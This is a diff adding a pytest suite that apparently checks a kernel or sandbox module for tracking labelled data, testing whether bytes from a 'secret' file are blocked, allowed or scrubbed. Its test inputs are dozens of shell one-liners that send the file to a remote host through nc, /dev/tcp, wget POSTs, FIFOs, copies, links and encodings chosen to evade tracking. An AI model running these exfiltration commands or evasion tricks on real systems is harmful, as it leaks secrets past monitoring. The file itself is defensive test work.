@@ -1,0 +1,89 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""From process to process the label goes along: whoever sends the bytes in the end is asked about."""
+
+import pytest
+
+from guest_run import Case
+from oracle import assert_allowed, assert_blocked, assert_scrubbed
+
+
+def relayed(kind, wait, sender=None):
+    """A receiver that waits before the sender reads the secret."""
+    sender = sender or f"channel send {kind} secret"
+    return f"channel receive {kind} {wait} & until [[ -e ready ]]; do sleep 0.02; done; sleep 0.1; {sender}; wait $!"
+
+
+def piped(wait):
+    """A reader that waits at a pipe."""
+    return f"{{ sleep 0.2; cat secret; }} | channel receive stdin {wait}"
+
+
+# Born before anybody has the FIFO, opens it after it was filled.
+LATE_READER = "bash -c 'until [[ -e go ]]; do sleep 0.02; done; head -c 50 > /dev/tcp/10.77.0.2/9 <"
+
+SCRIPTS = {
+    "pipe": "cat secret | nc remote 9",
+    "pipe-encoded": "base64 secret | nc remote 9",
+    "pipe-three": "cat secret | cat | cat | nc remote 9",
+    "pipe-late-reader": "cat secret | { sleep 0.3; nc remote 9; }",
+    **{f"pipe-in-{wait}": piped(wait) for wait in ("read", "poll", "select", "epoll", "splice")},
+    **{f"{kind}-in-{wait}": relayed(kind, wait) for kind, wait in (
+        ("stream", "read"), ("stream", "poll"), ("stream", "message"), ("stream", "late"), ("datagram", "read"),
+        ("datagram", "epoll"), ("datagram", "messages"), ("packet", "read"), ("abstract", "select"), ("tcp", "read"),
+        ("tcp", "epoll"), ("tcp", "late"), ("tcp", "splice"), ("udp", "read"), ("udp", "message"), ("tcp6", "read"),
+        ("address", "read"))},
+    "loopback-nc": "nc -l -p 7712 | nc remote 9 & sleep 0.3; nc 127.0.0.1 7712 < secret; wait $!",
+    "fifo": "mkfifo way; nc remote 9 < way & cat secret > way; wait $!",
+    "fifo-late": f"mkfifo way; {LATE_READER} way' & exec 5<> way; cat secret >&5; touch go; wait $!",
+    "opened-by-proc": f"mkfifo way; {LATE_READER} /proc/'$$'/fd/5' & exec 5<> way; cat secret >&5; touch go; wait $!",
+    "cp": "cp secret copy; nc remote 9 < copy",
+    "cp-by-writes": "cat secret > copy; nc remote 9 < copy",
+    "cp-to-memory": "cat secret > /dev/shm/copy; nc remote 9 < /dev/shm/copy; rm -f /dev/shm/copy",
+    "dd": "dd if=secret of=copy bs=7 status=none; nc remote 9 < copy",
+    "append": "echo first > copy; cat secret >> copy; nc remote 9 < copy",
+    "rename": "mv secret other; nc remote 9 < other",
+    "hard-link": "ln secret other; nc remote 9 < other",
+    "variable": "x=$(cat secret); echo \"${x//$'\\n'/ }\" > /dev/tcp/remote/9",
+    "here-string": "nc remote 9 <<< \"$(cat secret)\"",
+    "arguments": "x=$(cat secret); env -i /usr/bin/bash -c 'echo \"${0//$'\"'\\\\n'\"'/ }\" > /dev/tcp/10.77.0.2/9' \"$x\"",
+    "environment": "export X=$(cat secret); bash -c 'printf \"%q\" \"$X\" > /dev/tcp/10.77.0.2/9'",
+    "xargs": "tr '\\n' ' ' < secret | xargs sh -c 'echo \"$@\" | nc remote 9' sh",
+    "substitution": "nc remote 9 < <(cat secret)",
+    "editor": "sed -i s/anna/hans/ secret; nc remote 9 < secret",
+    "tee": "tee copy < secret > /dev/null; nc remote 9 < copy",
+    "sorted": "sort -r secret | uniq | tr a-z A-Z | nc remote 9",
+    "post": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
+    "post-data": "wget -q -T 5 -O - --post-data \"$(cat secret)\" http://10.77.0.2/up",
+    "background": "(sleep 0.2; nc remote 9 < secret) & wait $!",
+}
+# In another disguise than the oracle knows, or in no order.
+DISGUISED = {
+    "gzip": "gzip -c secret | nc remote 9",
+    "od": "od -An -to1 secret | nc remote 9",
+}
+# What the module refuses to follow altogether.
+REFUSED = {
+    "sysv": relayed("sysv", "read"),
+    "queue": relayed("queue", "read"),
+}
+
+
+@pytest.mark.parametrize("case", [Case(name, script) for name, script in {**SCRIPTS, **DISGUISED}.items()], ids=str)
+def test_blocked(case, outcome):
+    # A header or a line break that both send alike may be gone by then.
+    assert_blocked(outcome, nothing_at_all=case.name not in ("post", "post-data", "append"))
+
+
+@pytest.mark.parametrize("case", [Case(name, script, "allow") for name, script in SCRIPTS.items()], ids=str)
+def test_allowed(case, outcome):
+    assert_allowed(outcome)
+
+
+@pytest.mark.parametrize("case", [Case(name, script, "scrub") for name, script in {**SCRIPTS, **DISGUISED}.items()], ids=str)
+def test_scrubbed(case, outcome):
+    assert_scrubbed(outcome)
+
+
+@pytest.mark.parametrize("case", [Case(name, script, timeout=2) for name, script in REFUSED.items()], ids=str)
+def test_refused(case, outcome):
+    assert outcome.received == b"", outcome.describe()
